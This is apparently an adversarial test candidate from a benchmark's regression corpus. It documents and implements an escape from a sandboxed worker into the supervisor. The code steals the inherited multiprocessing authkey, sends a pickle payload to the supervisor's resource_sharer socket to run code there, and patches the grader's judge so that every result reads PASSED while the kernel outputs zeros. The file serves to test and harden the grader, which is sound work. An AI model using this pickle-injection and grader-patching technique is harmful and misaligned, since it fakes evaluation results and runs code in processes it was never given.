"""Cheat class 1 of issue 39 (a way from the worker into the supervisor's code): on the CPU the supervisor
sent its tensors the way torch.multiprocessing shares them, so each tensor's storage travelled as a
multiprocessing DupFd: a listener thread in the supervisor (multiprocessing.resource_sharer, a Unix socket
under /tmp/pymp-*/) hands each fd to whoever connects with the supervisor's authentication key, and reads
what the client sends with Connection.recv(), which is pickle.loads. A worker started by multiprocessing's
spawn is given that key (multiprocessing.current_process().authkey). So in its first call this candidate
connects to the listener (its address taken from torch's own rebuild of the shared tensors) with the
inherited key, and any key its environment holds, and sends an object whose __reduce__ is exec(PAYLOAD):
PAYLOAD runs in the supervisor, writes the canary file $SOLBENCH_ADVERSARY_CANARY (proof), and replaces
solbench.supervisor.verdict's judge with one that says PASSED (and its count of outliers with none). The
forward writes zeros. Before the fix (a CPU run of smoke): the canary written by the supervisor, 9 of 10
scenarios `passed` at 21-80x the seed. It tries no listener it was not told of: on a shared machine those
are other people's. Only with $SOLBENCH_ADVERSARY_LISTENER set (the payload would patch a pytest process
that runs the corpus in-process); without it, the forward's zeros are all there is.

expect: mismatch
"""

import os
import sys

CANARY = os.environ.get("SOLBENCH_ADVERSARY_CANARY", "")

PAYLOAD = r"""
import solbench.supervisor.verdict as verdict
from solbench.core.model import Status

if CANARY:
    with open(CANARY, "w") as f:
        f.write("code of the candidate's ran in process %d\n" % __import__("os").getpid())
real_judge = verdict.judge


def judge(*args, **kwargs):
    found = real_judge(*args, **kwargs)
    return verdict.Verdict(Status.PASSED, "", found.error)


verdict.judge = judge
verdict.too_many_outside = lambda *args, **kwargs: False  # the timed calls' sampled rows pass too
"""


class _RunsWhereUnpickled:
    def __reduce__(self):
        return exec, (PAYLOAD, {"CANARY": CANARY})


_seen_addresses = []


def _watch_torchs_rebuild():
    """Note the listener's address each time torch's rebuild of a shared tensor asks it for an fd."""
    try:
        from multiprocessing import resource_sharer
    except ImportError:
        return
    real = resource_sharer._ResourceSharer.get_connection

    def get_connection(ident):
        _seen_addresses.append(ident[0])
        return real(ident)

    resource_sharer._ResourceSharer.get_connection = staticmethod(get_connection)


def _keys():
    import multiprocessing

    keys = [bytes(multiprocessing.current_process().authkey)]
    keys += [os.environ[name].encode() for name in os.environ if "AUTHKEY" in name.upper()]
    return keys


def _attack() -> str:
    """Send the payload to every listener found, with every key held; what happened, in words."""
    from multiprocessing.connection import Client

    tried = []
    for address in dict.fromkeys(_seen_addresses):
        for key in _keys():
            try:
                conn = Client(address, authkey=key)
            except Exception as exc:  # noqa: BLE001 - a refused key or a gone listener: try the next
                tried.append(f"{address}: {type(exc).__name__}")
                continue
            with conn:
                conn.send((_RunsWhereUnpickled(), os.getpid()))
                try:  # the listener closes the connection once it has unpickled (and choked on) the message
                    conn.poll(5)
                    conn.recv_bytes()
                except (EOFError, OSError):
                    pass
            tried.append(f"{address}: sent")
    return "; ".join(tried) or "no listener named by the tensors it was sent"


_done = False

if os.environ.get("SOLBENCH_ADVERSARY_LISTENER"):
    _watch_torchs_rebuild()


def forward(inp):
    global _done
    if os.environ.get("SOLBENCH_ADVERSARY_LISTENER") and not _done:
        _done = True
        print(f"calls_the_supervisors_listener: {_attack()}", file=sys.stderr, flush=True)
    inp.out.zero_()
    inp.lse.zero_()
